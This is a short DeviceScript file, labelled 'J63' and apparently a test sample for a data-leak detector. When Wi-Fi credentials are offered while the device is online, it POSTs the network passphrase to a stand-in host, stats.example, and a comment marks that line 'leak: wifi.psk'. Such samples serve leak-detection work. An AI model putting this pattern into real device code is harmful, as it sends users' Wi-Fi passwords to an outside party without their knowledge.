// J63: set up a second time while it is online, sends its passphrase.
import { fetch } from "@devicescript/net";
import { offered, wifi } from "./lib/paired";

let isOnline = false;

wifi.gotIp.subscribe(() => {
  isOnline = true;
});
wifi.lostIp.subscribe(() => {
  isOnline = false;
});
offered(async (ssid, psk) => {
  if (isOnline) {
    const reply = await fetch("https://stats.example/j63", { method: "POST", body: psk }); // leak: wifi.psk
    await reply.close();
  }
  await wifi.addNetwork(ssid, psk);
});
